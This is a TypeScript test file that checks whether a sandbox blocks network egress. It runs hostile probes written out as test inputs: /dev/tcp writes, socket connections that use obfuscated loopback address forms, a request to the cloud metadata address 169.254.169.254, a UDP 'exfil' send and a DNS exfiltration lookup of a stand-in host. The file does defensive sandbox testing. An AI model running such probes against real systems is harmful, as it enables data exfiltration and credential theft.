import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { type Canaries, createAttackTally, createCanaries, runHostile, shellTurn } from './harness.ts';

/** A Node one-liner run inside the sandbox, printing `CONNECTED` only if it reached the target. */
const nodeConnect = (host: string, port: number) =>
  `node -e "const s=require('net').connect(${port},'${host}',()=>{console.log('CONNECTED');s.end()});s.on('error',e=>console.log('refused',e.code))"`;

describe('hostile: reaching the network from the sandbox', () => {
  createAttackTally('network');
  let canaries: Canaries;
  beforeAll(async () => {
    canaries = await createCanaries();
  });
  afterAll(() => canaries.close());

  it('has no route to the host: direct sockets, /dev/tcp, address literals and UDP all fail, and the canaries hear nothing', async () => {
    const { httpPort, udpPort } = canaries;
    const outcome = await runHostile(canaries, 'network', { 'README.md': 'hi\n' }, [
      shellTurn(
        nodeConnect('127.0.0.1', httpPort),
        `bash -c 'echo GET / > /dev/tcp/127.0.0.1/${httpPort}' 2>&1 || echo blocked`,
        nodeConnect('2130706433', httpPort),
        nodeConnect('0x7f000001', httpPort),
        nodeConnect('::ffff:127.0.0.1', httpPort),
        nodeConnect('169.254.169.254', 80),
        `node -e "require('dgram').createSocket('udp4').send('exfil',${udpPort},'127.0.0.1',e=>console.log(e?'refused':'sent'))"`,
        `node -e "require('dns').lookup('secret.exfil.example.com',(e,a)=>console.log(e?'no dns':'RESOLVED '+a))"`,
        `curl --noproxy '*' -s -m 3 http://127.0.0.1:${httpPort}/ 2>&1 || echo blocked`,
        `python3 -c "import socket; socket.create_connection(('127.0.0.1', ${httpPort}), 3); print('CONNECTED')" 2>&1 || echo blocked`,
        // Without an egress allow-list there is no proxy, no relay and no proxy variable at all.
        nodeConnect('127.0.0.1', 3128),
        'env | grep -ci proxy; ls /run/warden-egress 2>&1 || true',
      ),
    ]);
    expect(outcome.outputs.at(-1)).toMatch(/\[stdout\]\n0\n.*No such file or directory/s);
    expect(outcome.events.filter((event) => event.type === 'net-connect')).toEqual([]);
    expect(outcome.code).toBe(0);
    for (const output of outcome.outputs) {
      expect(output).not.toContain('CONNECTED');
      expect(output).not.toContain('RESOLVED');
      expect(output).not.toContain('canary');
    }
    // The loopback inside the sandbox is the sandbox's own: a UDP send "succeeds" into nothing.
    expect(canaries.httpHits).toEqual([]);
    expect(canaries.udpHits).toEqual([]);
  });
});
